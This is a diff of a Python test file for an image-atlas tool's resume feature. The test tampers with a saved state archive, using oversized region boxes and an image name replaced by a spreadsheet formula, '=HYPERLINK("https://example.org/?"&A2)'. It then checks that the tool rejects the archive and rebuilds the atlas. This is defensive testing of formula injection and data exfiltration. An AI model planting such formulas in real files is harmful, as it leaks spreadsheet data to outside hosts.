@@ -456,37 +456,32 @@ def test_a_shared_state_of_made_up_regions_and_names_is_rebuilt_from_the_parts(s
     """The ninth attack: --resume took a shared state.zip's region boxes (20,000 px a side:
     1.1 GiB a crop) and image names (a formula in regions.csv; 20,000 characters fitted to a
     caption one character at a time) as they were. Such a state is not used: a note says
-    why, and the atlas is the one the kept images' parts make, byte for byte."""
+    why, and the atlas is the one the kept images' parts make, byte for byte (each of the
+    checks alone: tests/test_attack9.py)."""
     import io
     import zipfile
     path, reference = small / "exp.yaml", atlas_files(small / "results" / "exp")
-    for change in ("boxes", "name"):
-        run_dir = interrupted(path, small / change, "batch", 3)
-        state = run_dir / "channels/atlas/state.zip"
-        with zipfile.ZipFile(state) as z:
-            members = {n: z.read(n) for n in z.namelist()}
-        header = json.loads(members["header.json"])
-        if change == "name":
-            key, _ = header["names"][0]
-            header["names"][0] = [key, '=HYPERLINK("https://example.org/?"&A2)']
-        else:
-            boxes = np.load(io.BytesIO(members["a.boxes.npy"]))
-            boxes[..., 2:4] = 20_000
-            buf = io.BytesIO()
-            np.save(buf, boxes)
-            members["a.boxes.npy"] = buf.getvalue()
-        members["header.json"] = json.dumps(header).encode()
-        with zipfile.ZipFile(state, "w") as z:
-            for n, data in members.items():
-                z.writestr(n, data)
-        summary = run(load_config(path), RunOptions(out_root=small / change, resume=True,
-                                                     **QUIET))
-        why = "an image name that is not its key's" if change == "name" else \
-            "a region outside any input"
-        assert any(n.startswith(f"channels.atlas: {state}: not an atlas state") and why in n
-                   and n.endswith("the atlas is rebuilt from the kept images' parts")
-                   for n in summary.notes), summary.notes
-        assert atlas_files(run_dir) == reference
+    run_dir = interrupted(path, small / "shared", "batch", 3)
+    state = run_dir / "channels/atlas/state.zip"
+    with zipfile.ZipFile(state) as z:
+        members = {n: z.read(n) for n in z.namelist()}
+    header = json.loads(members["header.json"])
+    key, _ = header["names"][0]
+    header["names"][0] = [key, '=HYPERLINK("https://example.org/?"&A2)']
+    members["header.json"] = json.dumps(header).encode()
+    boxes = np.load(io.BytesIO(members["a.boxes.npy"]))
+    boxes[..., 2:4] = 20_000
+    buf = io.BytesIO()
+    np.save(buf, boxes)
+    members["a.boxes.npy"] = buf.getvalue()
+    with zipfile.ZipFile(state, "w") as z:
+        for n, data in members.items():
+            z.writestr(n, data)
+    summary = run(load_config(path), RunOptions(out_root=small / "shared", resume=True, **QUIET))
+    assert any(n.startswith(f"channels.atlas: {state}: not an atlas state")
+               and n.endswith("the atlas is rebuilt from the kept images' parts")
+               for n in summary.notes), summary.notes
+    assert atlas_files(run_dir) == reference
 
 
 def test_a_part_of_made_up_maps_stops_the_resume_in_one_line(small, capsys):
